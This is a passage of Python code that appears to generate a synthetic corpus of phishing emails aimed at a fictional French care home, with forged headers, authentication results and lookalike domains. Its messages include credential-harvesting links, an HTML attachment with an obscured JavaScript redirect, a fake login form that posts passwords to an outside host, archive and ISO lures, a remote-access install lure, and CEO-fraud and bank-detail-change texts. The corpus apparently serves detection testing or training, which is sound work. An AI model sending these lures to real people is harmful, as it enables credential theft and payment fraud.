        Mail(
            name="p02_cpam_trop_verse_ssiad",
            imitates="Fausse CPAM : « trop-versé » de 1 846,20 € à rembourser au SSIAD, formulaire bancaire ; lien affiché espacepro.ameli.fr, cible espacepro-ameli.com",
            sender=Person(
                "CPAM de la Drôme - Relations Professionnels de santé", f"ps.drome@{dom}"
            ),
            to=SSIAD_E,
            subject="Régularisation forfait soins SSIAD – remboursement en votre faveur (réf. 26-0413)",
            sent="2026-05-04 10:02:51",
            body=alt(plain(body), html_simple(body, "Calibri, sans-serif"), "thunderbird"),
            origin=privateemail("p02"),
            auth=Auth("pass", "pass", "none", ((dom, "default"),)),
            msgid=f"<{guid('p02mid')}@{dom}>",
            head=[("User-Agent", "Mozilla Thunderbird")],
        )
    )

    # p03 -----------------------------------------------------------------------------------
    dom = "monespacesante-notification.fr"
    link = "https://mon-espace-sante.dossier-patient.info/connexion?doc=CRB-55182&s=1"
    mails.append(
        Mail(
            name="p03_mon_espace_sante_document",
            imitates="Faux Mon espace santé : document médical « supprimé sous 72 h » s'il n'est pas consulté (SPF softfail, pas de DKIM)",
            sender=Person("Mon espace santé", f"ne-pas-repondre@{dom}"),
            to=CHEF_F,
            subject="Nouveau document disponible dans votre profil Mon espace santé",
            sent="2026-05-05 09:12:33",
            body=card_body(
                "esp",
                "base64",
                brand="Mon espace santé",
                color="#00806e",
                title="Un nouveau document a été ajouté",
                paragraphs=[
                    "Bonjour,",
                    "Un professionnel de santé a ajouté le document « Compte rendu d'examen biologique » à votre dossier médical.",
                    "Pour des raisons de confidentialité, ce document n'est consultable que pendant 72 heures après sa mise à disposition. Au-delà, vous devrez en faire la demande auprès de votre caisse.",
                ],
                button=("Consulter mon document", link),
                after=[
                    "Vous n'êtes pas à l'origine de cette demande ? [[Signaler|https://mon-espace-sante.dossier-patient.info/signaler]]"
                ],
                footer=[
                    "Mon espace santé est un service de l'État et de l'Assurance Maladie.",
                    "Ne répondez pas à ce message.",
                ],
            ),
            origin=vps("p03", f"mail.{dom}", "198.51.100.73", f"mail.{dom}"),
            auth=Auth("softfail", "none", "none"),
            msgid=f"<20260505071233.{tok('p03mid', 16, HEX)}@{dom}>",
            date="utc",
        )
    )

    # p04 -----------------------------------------------------------------------------------
    dom = "mssante-securite.fr"
    body = (
        "Bonjour,\n\n"
        "Le mot de passe de votre messagerie securisee de sante (MSSante) ssiad@ehpad-closdesvignes.fr "
        "expire aujourd'hui.\n\n"
        "Conformement a la politique de securite de l'ANS, vous devez le renouveler pour "
        "continuer a recevoir les resultats d'analyses et les comptes rendus de vos patients.\n\n"
        "[[Conserver mon mot de passe actuel|https://mssante-securite.fr/mailiz/renouvellement?u=ssiad@ehpad-closdesvignes.fr]]\n\n"
        "Sans action de votre part, l'acces a votre boite sera suspendu sous 24 heures.\n\n"
        "Assistance MSSante\nAgence du Numerique en Sante"
    )
    mails.append(
        Mail(
            name="p04_mssante_mot_de_passe_expire",
            imitates="Fausse MSSanté : mot de passe qui « expire aujourd'hui », bouton « conserver mon mot de passe actuel » ; texte sans accents, domaine de l'attaquant authentifié",
            sender=Person("MSSante - Assistance", f"assistance@{dom}"),
            to=SSIAD_E,
            subject="Expiration de votre mot de passe MSSante",
            sent="2026-05-05 06:58:02",
            body=alt(
                plain(body), html_simple(body, "Verdana, sans-serif"), "php", "7bit", "us-ascii"
            ),
            origin=vps(
                "p04", "vps-8c21f0a4.vps.ovh.net", "198.51.100.140", "vps-8c21f0a4.vps.ovh.net"
            ),
            auth=Auth("pass", "pass", "pass", ((dom, "mail"),)),
            msgid=f"<{tok('p04mid', 32, HEX)}@vps-8c21f0a4.vps.ovh.net>",
            head=[("X-Priority", "1 (Highest)")],
            date="pad",
        )
    )

    # p05 -----------------------------------------------------------------------------------
    link = "https://storage-upgrade.ehpad-closdesvignes.fr-m365.support/owa/?email=accueil%40ehpad-closdesvignes.fr"
    mails.append(
        Mail(
            name="p05_quota_boite_usurpation_domaine",
            imitates="Boîte pleine à 98 % ; l'expéditeur usurpe le domaine de l'EHPAD lui-même (SPF échoue, DMARC échoue, message classé indésirable), lien vers un sosie en .support",
            sender=Person("Administrateur Messagerie", f"no-reply@{EHPAD}"),
            to=ACCUEIL_E,
            subject="accueil@ehpad-closdesvignes.fr : votre boîte aux lettres est presque pleine (98 %)",
            sent="2026-05-05 13:20:47",
            body=card_body(
                "python",
                brand="Microsoft 365",
                color="#0078d4",
                title="Votre boîte aux lettres est presque pleine",
                paragraphs=[
                    "accueil@ehpad-closdesvignes.fr",
                    "Votre boîte aux lettres a atteint 98 % de sa capacité (48,9 Go utilisés sur 50 Go). Au-delà de 100 %, vous ne pourrez plus envoyer ni recevoir de messages et les messages entrants seront rejetés.",
                    "Pour éviter toute interruption, votre espace de stockage peut être étendu gratuitement :",
                ],
                button=("Augmenter mon espace de stockage", link),
                footer=[
                    "Ce message a été envoyé par le système de messagerie de ehpad-closdesvignes.fr."
                ],
            ),
            origin=vps(
                "p05",
                "srv-203-0-113-88.hostmonster-eu.net",
                "203.0.113.88",
                "srv-203-0-113-88.hostmonster-eu.net",
            ),
            auth=Auth("fail", "none", "fail", policy="none"),
            msgid=f"<{tok('p05mid', 19, DIGITS)}.{tok('p05mid2', 6, DIGITS)}@srv-203-0-113-88.hostmonster-eu.net>",
            scl=5,
            date="utc",
        )
    )

    # p06 -----------------------------------------------------------------------------------
    dom = "onedrive-fichiers-partages.com"
    link = "https://ehpadclosdesvignes-my.sharepoint.com.docview-secure.net/:x:/g/personal/c_vidal/EaY3kP2vQ8?e=9fQm2x"
    mails.append(
        Mail(
            name="p06_onedrive_grille_salariale",
            imitates="Faux partage OneDrive « de la directrice » (grille salariale confidentielle) envoyé par un compte SendGrid détourné ; lien sharepoint.com suivi d'un autre domaine",
            sender=Person("Catherine Vidal via OneDrive", f"partage@{dom}"),
            to=RH_E,
            subject="Catherine Vidal a partagé « Grille salariale 2026 - confidentiel.xlsx » avec vous",
            sent="2026-05-05 11:03:16",
            body=card_body(
                "esp",
                brand="OneDrive",
                color="#0364b8",
                title="Catherine Vidal a partagé un fichier avec vous",
                paragraphs=[
                    "Grille salariale 2026 - confidentiel.xlsx",
                    "« Amandine, peux-tu vérifier les montants avant la réunion de jeudi ? Merci. »",
                ],
                button=("Ouvrir", link),
                footer=[
                    "Ce lien ne fonctionne que pour les destinataires directs de ce message.",
                    "[[Déclaration de confidentialité de Microsoft|https://go.microsoft.com/fwlink/?LinkId=521839]]",
                ],
            ),
            origin=sendgrid("p06"),
            envelope="bounces+38291044-5a1c-rh=ehpad-closdesvignes.fr@em7713.fiscalis-conseil.com",
            auth=Auth(
                "pass",
                "pass",
                "none",
                (("fiscalis-conseil.com", "s1"), ("sendgrid.info", "smtpapi")),
            ),
            msgid=f"<{tok('p06mid', 22)}@geopod-ismtpd-{num('p06g', 1, 40)}>",
            head=[
                ("X-SG-EID", "u001." + tok("p06eid", 120, ALNUM + "+/") + "="),
                ("X-Entity-ID", "u001." + tok("p06ent", 22)),
            ],
            date="pad",
        )
    )

    # p07 -----------------------------------------------------------------------------------
    dom = "cloudvoix-services.com"
    target = "https://vocal-ecoute.web.app/m365/?id=VM-0475261893"
    vm_html = (
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Message vocal</title></head>\n'
        '<body style="font-family:Segoe UI,Arial">\n<div style="text-align:center;margin-top:80px">\n'
        "<p>&#9654; Lecture du message vocal (00:47)&hellip;</p>\n<p>Chargement du lecteur s&eacute;curis&eacute;</p>\n</div>\n"
        '<script>\nvar d = "' + base64.b64encode(target.encode()).decode() + '";\n'
        'var m = "direction@foyer-lamaisonnee.org";\n'
        'setTimeout(function () { window.location.href = atob(d) + "#" + btoa(m); }, 800);\n'
        "</script>\n</body></html>\n"
    )
    body = (
        "Vous avez reçu un nouveau message vocal.\n\n"
        "De : 04 75 26 18 93\nÀ : Direction (poste 201)\nReçu le : 05/05/2026 à 08:12\nDurée : 00:47\n\n"
        "Écoutez le message en ouvrant la pièce jointe (lecteur audio sécurisé).\n\n"
        "Ce message a été généré automatiquement par votre standard téléphonique."
    )
    mails.append(
        Mail(
            name="p07_messagerie_vocale_htm",
            imitates="Faux message vocal du standard : pièce jointe .htm qui redirige en JavaScript (adresse encodée en base64) vers une page hébergée sur web.app",
            sender=Person("Standard - Messagerie vocale", f"vm-noreply@{dom}"),
            to=DIR_F,
            subject="Nouveau message vocal de 04 75 26 18 93 - durée 00:47",
            sent="2026-05-05 08:13:05",
            body=mixed(
                [
                    alt(plain(body), html_simple(body), "php"),
                    attachment(
                        "Message_vocal_0475261893_0505.htm",
                        "text/html; charset=utf-8",
                        vm_html.encode(),
                    ),
                ],
                "php",
            ),
            origin=vps("p07", f"mail.{dom}", "192.0.2.47", f"mail.{dom}"),
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('p07mid', 32, HEX)}@{dom}>",
            date="pad",
        )
    )

    # p08 -----------------------------------------------------------------------------------
    dom = "teams-msgcenter.com"
    link = "https://teams.microsoft.com.l-message.app/l/message/19%3Ameeting_NTk2ZjQx/1746425533?tenantId=ehpad-closdesvignes&context=sso"
    mails.append(
        Mail(
            name="p08_teams_messages_manques",
            imitates="Fausse notification Teams citant de vrais collègues (noms trouvés en ligne), envoyée par Amazon SES ; lien teams.microsoft.com suivi d'un autre domaine",
            sender=Person("Microsoft Teams", f"noreply@{dom}"),
            to=IDEC_E,
            subject="Vous avez 3 messages non lus dans Microsoft Teams",
            sent="2026-05-05 14:41:58",
            body=card_body(
                "esp",
                brand="Microsoft Teams",
                color="#5b5fc7",
                title="Amandine Roux vous a envoyé un message",
                paragraphs=[
                    "Vous avez manqué des conversations dans Microsoft Teams.",
                    "Amandine Roux : « Laurent, j'ai déposé le nouveau planning des IDE dans le canal Soins, tu peux le valider aujourd'hui stp ? »",
                    "+ 2 autres messages de Catherine Vidal",
                ],
                button=("Répondre dans Teams", link),
                footer=[
                    "Vous recevez cet e-mail parce que les notifications par e-mail sont activées.",
                    "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
                ],
            ),
            origin=ses("p08", "us-east-1"),
            envelope=f"01000196{tok('p08env', 8, HEX)}-{guid('p08env2')}-000000@amazonses.com",
            auth=Auth(
                "pass", "pass", "none", (("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug"),)
            ),
            msgid=f"<01000196{tok('p08m', 8, HEX)}-{guid('p08m2')}-000000@email.amazonses.com>",
            head=[
                ("Feedback-ID", f"::1.us-east-1.{tok('p08fb', 43)}=:AmazonSES"),
                ("X-SES-Outgoing", "2026.05.05-54.240.8.17"),
            ],
            date="utc",
        )
    )

    # p09 -----------------------------------------------------------------------------------
    dom = "eu-docusign.net"
    a, acct = guid("p09a"), guid("p09acct")
    link = f"https://eu-docusign.net/Signing/EmailStart.aspx?a={a}&etti=24&acct={acct}&er={guid('p09er')}"
    mails.append(
        Mail(
            name="p09_docusign_avenant_cpom",
            imitates="Faux Docusign « du Département » (avenant CPOM à signer) depuis eu-docusign.net, sosie de eu.docusign.net, entièrement authentifié via SendGrid",
            sender=Person("Département de la Drôme via Docusign", f"dse@{dom}"),
            to=DIR_F,
            subject="Veuillez signer le document : Avenant n°2 CPOM 2026-2030 - Foyer La Maisonnée",
            sent="2026-05-06 09:27:40",
            body=card_body(
                "esp",
                brand="Docusign",
                color="#1e1e1e",
                title="Département de la Drôme vous a envoyé un document à examiner et à signer.",
                paragraphs=[
                    "Avenant n°2 au CPOM 2026-2030",
                    "Bonjour Monsieur Blanc,\nVeuillez trouver l'avenant au contrat pluriannuel d'objectifs et de moyens, à signer avant le 12 mai.\nBien cordialement,\nDirection de l'Autonomie",
                ],
                button=("EXAMINER LE DOCUMENT", link),
                after=[
                    "Ne partagez pas cet e-mail",
                    "Cet e-mail contient un lien sécurisé vers Docusign. Veuillez ne pas partager cet e-mail, ce lien ou ce code d'accès avec d'autres personnes.",
                ],
                footer=[
                    "Autre méthode de signature",
                    f"Rendez-vous sur docusign.com, cliquez sur « Accéder aux documents » et saisissez le code de sécurité : {tok('p09code', 32, '0123456789ABCDEF')}1",
                    "À propos de Docusign : signez des documents par voie électronique en quelques minutes.",
                ],
            ),
            origin=sendgrid("p09"),
            envelope="bounces+41822071-aa31-direction=foyer-lamaisonnee.org@em2291.eu-docusign.net",
            auth=Auth("pass", "pass", "pass", ((dom, "s1"), ("sendgrid.info", "smtpapi"))),
            msgid=f"<{tok('p09mid', 22)}@geopod-ismtpd-{num('p09g', 1, 40)}>",
            date="pad",
        )
    )

    # p10 -----------------------------------------------------------------------------------
    login = (
        '<!DOCTYPE html>\n<html lang="fr"><head><meta charset="utf-8"><title>Excel Online - Facture</title>\n'
        "<style>body{font-family:Segoe UI,Arial;background:#f3f2f1}.box{width:360px;margin:70px auto;background:#fff;padding:36px}</style>\n"
        '</head><body><div class="box">\n<h2>Microsoft Excel</h2>\n'
        "<p>Ce document est prot&eacute;g&eacute;. Connectez-vous avec votre compte de messagerie pour afficher la facture FA-2026-0517.</p>\n"
        '<form method="post" action="https://invoice-viewer-secure.pages.dev/submit.php">\n'
        '<input type="email" name="login" value="comptabilite@foyer-lamaisonnee.org"><br>\n'
        '<input type="password" name="passwd" placeholder="Mot de passe"><br>\n'
        '<button type="submit">Afficher le document</button>\n</form>\n</div></body></html>\n'
    )
    body = (
        "Bonjour,\n\nVeuillez trouver ci-joint la facture correspondant à l'intervention sur votre "
        "véhicule de service (Renault Kangoo, révision et plaquettes avant).\n\n"
        "Merci de bien vouloir ouvrir le document joint pour consulter le détail et procéder au "
        "règlement.\n\nCordialement,\n\nGarage Moreau\n04 75 26 40 17"
    )
    mails.append(
        Mail(
            name="p10_facture_garage_html",
            imitates="Boîte Orange d'un garage local compromise (tout est authentifié) : « facture » en pièce jointe HTML qui est un faux formulaire de connexion Excel",
            sender=Person("Garage Moreau", "garage.moreau26@wanadoo.fr"),
            to=COMPTA_F,
            subject="Facture N° FA-2026-0517",
            sent="2026-05-06 10:48:22",
            body=mixed(
                [
                    alt(plain(body), html_simple(body), "java"),
                    attachment("FA-2026-0517.html", "text/html", login.encode()),
                ],
                "java",
            ),
            origin=orange_out("p10", "90.14.187.203", "wanadoo.fr"),
            auth=Auth("pass", "pass", "pass", (("wanadoo.fr", "t20230301"),), policy="none"),
            msgid=f"<{tok('p10mid', 12, DIGITS)}.{tok('p10mid2', 6, DIGITS)}.{tok('p10mid3', 13, DIGITS)}@wwinf{num('p10w', 1000, 2999)}>",
            head=[("X-Originating-IP", "[90.14.187.203]"), ("X-Mailer", "Orange Messagerie")],
        )
    )

    # p11 -----------------------------------------------------------------------------------
    dom = "fournitures-bureau-sud.com"
    body = (
        "Bonjour Madame,\n\nSauf erreur de notre part, la facture n°F2026-0398 du 02/04/2026 d'un "
        "montant de 1 264,80 € TTC reste impayée à ce jour.\n\n"
        "Vous trouverez en pièce jointe la facture et le relevé de compte. Merci de nous indiquer la "
        "date de règlement prévue.\n\nCordialement,\n\nService comptabilité clients\nFournitures Bureau Sud"
    )
    mails.append(
        Mail(
            name="p11_relance_facture_iso",
            imitates="Deuxième relance d'une facture impayée d'un fournisseur inconnu ; pièce jointe .iso contenant un exécutable (aucune authentification)",
            sender=Person("Service Comptable - Fournitures Bureau Sud", f"compta@{dom}"),
            to=COMPTA_E,
            subject="RE: Facture impayée n°F2026-0398 – 2ème relance",
            sent="2026-05-06 08:05:14",
            body=mixed(
                [
                    alt(
                        plain(body),
                        html_outlook(body),
                        "nextpart",
                        "quoted-printable",
                        "windows-1252",
                    ),
                    attachment(
                        "Facture_F2026-0398_relance.iso",
                        "application/octet-stream",
                        iso_image(
                            "FACTURE_F2026",
                            "FACTURE_F2026_0398.EXE",
                            EXE_STUB + stream("p11exe", 4000),
                        ),
                    ),
                ],
                "nextpart",
            ),
            origin=vps("p11", "vm3391.cloud-vps.eu", "203.0.113.152", "vm3391.cloud-vps.eu"),
            auth=Auth("none", "none", "none"),
            msgid=f"<000001dcbd5a$3f2a1b40${tok('p11mid', 8, HEX)}@{dom}>",
            head=[
                ("X-Mailer", "Microsoft Outlook 16.0"),
                ("Thread-Index", thread_index("p11")),
                ("Content-Language", "fr"),
            ],
            enc="Q",
            charset="windows-1252",
        )
    )

    # p12 -----------------------------------------------------------------------------------
    dom = "credit-cooperatif-espaceclient.com"
    js = (
        b"// Releve de compte - document securise\r\n"
        b"var s = ['R','e','l','e','v','e'].join('');\r\n"
        b"var n = 0; for (var i = 0; i < s.length; i++) { n += s.charCodeAt(i); }\r\n"
    )
    body = (
        "Madame, Monsieur,\n\nVotre relevé de compte professionnel du mois d'avril 2026 est "
        "disponible en pièce jointe.\n\nPour la protection de vos données, le document est chiffré.\n"
        "Mot de passe : 7304\n\nNous vous remercions de votre confiance.\n\n"
        "Crédit Coopératif\nService Clientèle Associations"
    )
    mails.append(
        Mail(
            name="p12_releve_bancaire_zip_chiffre",
            imitates="Faux relevé bancaire (sosie du domaine de la banque, via Mailgun) : archive .zip protégée par mot de passe (donné dans le message) contenant un script .pdf.js",
            sender=Person("Crédit Coopératif", f"releves@{dom}"),
            to=COMPTA_F,
            subject="Votre relevé de compte professionnel - Avril 2026",
            sent="2026-05-06 07:30:00",
            body=mixed(
                [
                    alt(plain(body), html_simple(body), "esp"),
                    attachment(
                        "Releve_Avril_2026.zip",
                        "application/zip",
                        zip_encrypted([("Releve_Avril_2026.pdf.js", js)], "7304", "p12"),
                    ),
                ],
                "esp",
            ),
            origin=mailgun("p12"),
            envelope=f"bounce+{tok('p12b1', 6, HEX)}.{tok('p12b2', 6, HEX)}-comptabilite=foyer-lamaisonnee.org@mg.{dom}",
            auth=Auth("pass", "pass", "pass", ((f"mg.{dom}", "k1"),)),
            msgid=f"<20260506053000.{tok('p12mid', 16, HEX)}@mg.{dom}>",
            head=[
                ("X-Mailgun-Sid", tok("p12sid", 60, ALNUM + "=")),
                ("X-Mailgun-Sending-Ip", "159.135.224.7"),
            ],
            date="utc",
        )
    )

    # p13 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Sandrine,\n\nÊtes-vous disponible ? J'ai une tâche urgente et confidentielle à "
        "vous confier, je suis en réunion à l'ARS toute la matinée et ne peux pas prendre d'appel.\n\n"
        "Répondez-moi dès que possible par mail.\n\nCatherine Vidal\nDirectrice"
    )
    mails.append(
        Mail(
            name="p13_fraude_president_disponible",
            imitates="Fraude au président, premier message : le nom de la directrice sur une adresse Gmail, « êtes-vous disponible ? », ni lien ni pièce jointe",
            sender=Person("Catherine Vidal", "catherine.vidal.direction26@gmail.com"),
            to=COMPTA_E,
            subject="Disponible ?",
            sent="2026-05-06 08:47:31",
            body=gmail_body(body),
            origin=google("p13"),
            auth=Auth("pass", "pass", "pass", (("gmail.com", "20230601"),), policy="none"),
            msgid=mid_gmail("p13"),
        )
    )

    # p14 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Fabienne,\n\n"
        "Je vous écris depuis ma messagerie personnelle car nous sommes en pleine négociation avec "
        "le cabinet Ledoux & Associés pour la reprise d'un accueil de jour à Nyons. Le dossier est "
        "strictement confidentiel tant que le conseil d'administration n'a pas été informé, merci "
        "de n'en parler à personne, y compris à Yannick.\n\n"
        "Maître Ledoux va vous transmettre les coordonnées bancaires du compte séquestre. Il faut "
        "effectuer aujourd'hui un virement de 38 600 € pour l'acompte, avant 15 h.\n\n"
        "Je suis en rendez-vous toute la journée et ne suis pas joignable par téléphone, on échange "
        "uniquement par mail. Confirmez-moi dès que le virement est passé.\n\n"
        "Merci pour votre discrétion.\n\n"
        "Thierry Blanc\nDirecteur\nFoyer de vie La Maisonnée"
    )
    o14 = m365_out("p14", consumer=True)
    arc_results(o14, "outlook.fr", "outlook.fr", "outlook.fr")
    mails.append(
        Mail(
            name="p14_fraude_president_virement",
            imitates="Fraude au président : le directeur « sur sa messagerie personnelle » (Outlook.fr) demande un virement confidentiel de 38 600 € ; Reply-To vers une adresse Proton",
            sender=Person("Thierry Blanc", "thierry.blanc.dir@outlook.fr"),
            to=COMPTA_F,
            subject="Confidentiel - opération en cours",
            sent="2026-05-06 11:15:09",
            body=outlook_body(body),
            origin=o14,
            auth=Auth("pass", "pass", "pass", (("outlook.fr", "selector1"),), policy="none"),
            msgid=mid_outlook("p14", "AS8P194MB1127", "EURP194.PROD.OUTLOOK.COM"),
            head=[
                ("Reply-To", "Thierry Blanc <t.blanc.direction@proton.me>"),
                *outlook_head("p14", "Confidentiel - opération en cours"),
            ],
            date="utc",
        )
    )

    # p15 -----------------------------------------------------------------------------------
    dom = "blanchisserie-du-rhone.fr"
    body = (
        "Madame Morel,\n\n"
        "Nous vous informons que, suite au changement de notre établissement bancaire, nos "
        "coordonnées bancaires sont modifiées à compter du 1er mai 2026.\n\n"
        "Vous trouverez ci-joint notre nouveau RIB. Merci de l'enregistrer pour le règlement de nos "
        "prochaines factures, y compris la facture n° BR-26-0417 d'avril actuellement en attente.\n\n"
        "Les règlements effectués sur l'ancien compte ne pourront plus être traités et vous seront "
        "retournés.\n\nMerci de nous confirmer la prise en compte par retour de mail.\n\n"
        "Bien cordialement,\n\nÉlodie Marchand\nService comptabilité\nBlanchisserie du Rhône\n"
        "ZA des Tourettes - 26200 Montélimar\nTél. 04 75 01 22 36"
    )
    rib = pdf(
        [
            "RELEVÉ D'IDENTITÉ BANCAIRE",
            "Titulaire : BLANCHISSERIE DU RHONE",
            "Domiciliation : QONTO - 18 rue de Navarin 75009 Paris",
            "IBAN : FR76 1695 8000 0143 2287 9146 052",
            "BIC : QNTOFRP1XXX",
        ],
        producer="Microsoft: Print To PDF",
    )
    mails.append(
        Mail(
            name="p15_changement_rib_blanchisserie_sosie",
            imitates="Changement de RIB du vrai fournisseur de linge (blanchisserie-durhone.fr) depuis le sosie blanchisserie-du-rhone.fr, authentifié ; Reply-To vers Outlook.com, nouveau RIB en PDF",
            sender=Person("Blanchisserie du Rhône - Comptabilité", f"comptabilite@{dom}"),
            to=COMPTA_E,
            subject="Changement de coordonnées bancaires - Blanchisserie du Rhône",
            sent="2026-05-06 15:32:27",
            body=mixed(
                [
                    alt(plain(body), html_outlook(body), "nextpart"),
                    attachment("RIB_Blanchisserie_du_Rhone.pdf", "application/pdf", rib),
                ],
                "nextpart",
            ),
            origin=privateemail("p15"),
            auth=Auth("pass", "pass", "none", ((dom, "default"),)),
            msgid=f"<{tok('p15mid', 32, HEX)}@{dom}>",
            head=[
                ("Reply-To", "service.comptable.bdr@outlook.com"),
                ("X-Mailer", "Microsoft Outlook 16.0"),
                ("Thread-Index", thread_index("p15")),
            ],
            enc="B",
        )
    )

    # p16 -----------------------------------------------------------------------------------
    dom = "colissimo-livraison-info.com"
    sms = (
        "Colissimo: Votre colis 6A25519837421 n'a pas pu etre livre le 05/05 (adresse incomplete). "
        "Replanifiez la livraison avant 24h: https://colissimo-suivi.fr-redirection.top/6A25519837421 "
        "STOP au 36180\n"
    )
    mails.append(
        Mail(
            name="p16_colissimo_sms",
            imitates="Faux avis Colissimo façon SMS (texte brut, sans accents), livraison à replanifier sous 24 h, lien en .top",
            sender=Person("Colissimo", f"suivi@{dom}"),
            to=ACCUEIL_E,
            subject="Colissimo: votre colis 6A25519837421 est en attente",
            sent="2026-05-06 17:04:40",
            body=part('text/plain; charset="us-ascii"', sms.encode(), "7bit"),
            origin=vps("p16", f"mail.{dom}", "192.0.2.119", f"mail.{dom}"),
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('p16mid', 16, HEX)}@{dom}>",
            date="pad",
        )
    )

    # p17 -----------------------------------------------------------------------------------
    body = (
        "Chronopost : votre colis XW482193045FR est bloqué au centre de tri de Valence (frais de "
        "dédouanement non réglés : 1,99 €).\n\nRéglez-les ici pour une livraison demain :\n"
        "[[https://chronopost-fr.suivi-colis.live/XW482193045FR|https://chronopost-fr.suivi-colis.live/XW482193045FR]]\n\n"
        "Sans paiement sous 48 h, le colis sera retourné à l'expéditeur."
    )
    mails.append(
        Mail(
            name="p17_chronopost_frais_douane",
            imitates="Faux Chronopost : 1,99 € de frais de douane, envoyé depuis un hébergement cPanel compromis (From sur un autre domaine, sans DKIM)",
            sender=Person("Chronopost", "noreply@chronopost-avis.net"),
            to=SECR_F,
            subject="Votre colis Chronopost XW482193045FR : frais à régler (1,99 €)",
            sent="2026-05-07 07:55:13",
            body=alt(plain(body), html_simple(body), "php", "base64"),
            origin=cpanel("p17", "server217.web-hosting.com", "192.0.2.217", "dupuisec"),
            envelope="dupuisec@server217.web-hosting.com",
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('p17mid', 32)}@ecole-conduite-dupuis.fr>",
            head=[("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)")],
            date="pad",
        )
    )

    # p18 -----------------------------------------------------------------------------------
    dom = "numeria-infogerence.fr"
    body = (
        "Bonjour,\n\n"
        "Dans le cadre de la migration de votre messagerie prévue ce jeudi 7 mai, nos techniciens "
        "doivent intervenir à distance sur chaque poste du foyer.\n\n"
        "Merci d'installer dès aujourd'hui l'agent de maintenance Numeria (installation en 1 minute, "
        "aucun droit administrateur nécessaire) :\n\n"
        "[[Télécharger l'agent de maintenance|https://numeria-assistance.screenconnect.com/Bin/ScreenConnect.ClientSetup.exe?e=Access&y=Guest&h=instance-8k2f1q-relay.screenconnect.com&p=443]]\n\n"
        "Une fois l'installation terminée, répondez à ce mail en indiquant le nom de votre poste. "
        "Sans installation avant mercredi soir, votre poste ne pourra pas être migré et vous perdrez "
        "l'accès à vos mails.\n\n"
        "Merci de votre collaboration,\n\nL'équipe support Numeria Infogérance\n04 75 40 12 80"
    )
    mails.append(
        Mail(
            name="p18_faux_prestataire_agent_distance",
            imitates="Faux prestataire informatique (numeria-infogerence.fr au lieu de numeria-infogerance.fr, Zoho, authentifié) : installer un outil de prise en main à distance (ScreenConnect)",
            sender=Person("Numeria Infogérance - Support", f"support@{dom}"),
            to=SECR_F,
            subject="[Numeria] Migration messagerie jeudi 7 mai – installation de l'agent de maintenance",
            sent="2026-05-05 16:22:48",
            body=alt(plain(body), html_simple(body, "Verdana, Arial, sans-serif"), "esp"),
            origin=esp(
                f"sender4-op-o{num('p18', 10, 99)}.zoho.eu",
                f"136.143.169.{num('p18ip', 2, 250)}",
                f"by mx.zoho.eu with SMTPS id {tok('p18id', 10, DIGITS)}{tok('p18id2', 8, DIGITS)}.{tok('p18id3', 4, DIGITS)};\n\t{{loc}}",
                "IE",
            ),
            auth=Auth("pass", "pass", "pass", ((dom, "zmail"),)),
            msgid=f"<{tok('p18mid', 13, DIGITS)}.{tok('p18mid2', 19, DIGITS)}@{dom}>",
            head=[("X-Mailer", "Zoho Mail")],
            enc="B",
        )
    )

    # p19 -----------------------------------------------------------------------------------
    dom = "urssaf-rhonealpes.org"
    mails.append(
        Mail(
            name="p19_urssaf_majoration",
            imitates="Fausse Urssaf régionale : cotisations du 1er trimestre « restant dues », menace de majoration et de recouvrement forcé ; domaine de l'attaquant",
            sender=Person("Urssaf Rhône-Alpes", f"recouvrement@{dom}"),
            to=COMPTA_F,
            subject="Mise en demeure avant majoration – cotisations du 1er trimestre 2026",
            sent="2026-05-07 09:40:02",
            body=card_body(
                "esp",
                brand="Urssaf",
                color="#002e6d",
                title="Avis de régularisation",
                paragraphs=[
                    "Madame, Monsieur,",
                    "Sauf erreur de notre part, le paiement de vos cotisations sociales du 1er trimestre 2026 n'a pas été intégralement reçu. Montant restant dû : 2 187,00 €.",
                    "Afin d'éviter l'application de majorations de retard de 5 % et l'engagement d'une procédure de recouvrement forcé, nous vous invitons à régulariser votre situation avant le 11/05/2026.",
                ],
                button=(
                    "Régulariser ma situation",
                    f"https://www.{dom}/espace-employeur/regularisation?siret=41823376500027",
                ),
                after=[
                    "Si vous avez déjà procédé au règlement, merci de ne pas tenir compte de ce message."
                ],
                footer=[
                    "Urssaf Rhône-Alpes – Recouvrement",
                    "Ce message vous est adressé automatiquement.",
                ],
            ),
            origin=vps("p19", f"mail.{dom}", "203.0.113.214", f"mail.{dom}"),
            auth=Auth("pass", "pass", "none", ((dom, "mail"),)),
            msgid=f"<{tok('p19mid', 24, HEX)}@{dom}>",
            date="pad",
        )
    )

    # p20 -----------------------------------------------------------------------------------
    dom = "dgfip-remboursements.com"
    mails.append(
        Mail(
            name="p20_impots_taxe_salaires",
            imitates="Faux impots.gouv.fr : remboursement de taxe sur les salaires ; envoyé par le site WordPress compromis d'un camping (hébergement OVH), lien affiché impots.gouv.fr",
            sender=Person("impots.gouv.fr", f"noreply@{dom}"),
            to=COMPTA_E,
            subject="Avis de remboursement – taxe sur les salaires 2025",
            sent="2026-05-07 06:12:55",
            body=card_body(
                "php",
                "base64",
                brand="impots.gouv.fr",
                color="#000091",
                title="Avis de remboursement",
                paragraphs=[
                    "Madame, Monsieur,",
                    "Après le dernier calcul de votre taxe sur les salaires pour l'année 2025, nous avons déterminé que vous êtes éligible à un remboursement de 3 412,00 €.",
                    "Pour recevoir ce remboursement, veuillez confirmer les coordonnées bancaires de l'établissement depuis votre espace professionnel :",
                    "[[https://www.impots.gouv.fr/professionnel|https://impots-gouv.espace-pro-remboursement.com/cfspro/remboursement.php?id=TS2025-88142]]",
                ],
                after=[
                    "Le délai de traitement est de 3 à 5 jours ouvrés après confirmation.",
                    "Direction générale des Finances publiques",
                ],
                footer=["Ce courriel est envoyé automatiquement. Merci de ne pas y répondre."],
            ),
            origin=ovh_web("p20", 27),
            envelope="wordpress@camping-les-cigales-ardeche.fr",
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('p20mid', 40)}@camping-les-cigales-ardeche.fr>",
            head=[("X-Mailer", "PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)")],
            date="pad",
        )
    )

    # p21 -----------------------------------------------------------------------------------
